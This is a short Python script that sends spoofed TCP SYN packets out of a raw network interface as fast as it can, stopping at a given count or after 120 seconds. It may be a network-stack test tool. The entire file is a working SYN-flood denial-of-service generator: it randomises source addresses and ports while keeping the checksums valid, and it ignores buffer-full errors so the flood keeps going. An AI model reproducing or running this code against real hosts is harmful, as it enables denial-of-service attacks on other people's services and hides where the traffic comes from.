#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-only
"""Sends TCP SYNs with spoofed sources out of a network interface, as fast as it can.

usage: syn_flood.py DEV DESTINATION_MAC ADDRESS PORT COUNT

Bounded by COUNT and by 120 seconds. Addresses and ports of the sources are random, and add up to the
same sum each time, so that the checksums are right without being computed.
"""
import errno
import random
import socket
import struct
import sys
import time

from scapy.layers.inet import IP, TCP
from scapy.layers.l2 import Ether

dev, mac, address, port, count = sys.argv[1:]
frame = bytes(Ether(src="02:00:00:00:ff:ff", dst=mac) /
              IP(src="11.0.0.1", dst=address) / TCP(sport=1024, dport=int(port), flags="S", seq=1))
before, middle, after = frame[:24], frame[30:34], frame[36:]
check, high, low, sport = struct.unpack("!HHH4xH", frame[24:36])

raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
raw.bind((dev, 0))
words, word, rand = struct.Struct("!HHH").pack, struct.Struct("!H").pack, random.getrandbits
end, sent = time.monotonic() + 120, 0
while sent < int(count) and time.monotonic() < end:
    for _ in range(1000):
        # x moves from one half of the address to the other, and neither checksum sees it. y moves from
        # the address to the port: TCP, which sums up both, does not see it; IP is told.
        x, y = rand(14), rand(15)
        frame = (before + words((check + y) % 0xFFFF, high + x, (low - x - y) % 0xFFFF) + middle +
                 word(sport + y) + after)
        try:
            raw.send(frame)
            sent += 1
        except OSError as error:
            if error.errno != errno.ENOBUFS:  # the interface is busy: that is what a flood does
                raise
print(sent)
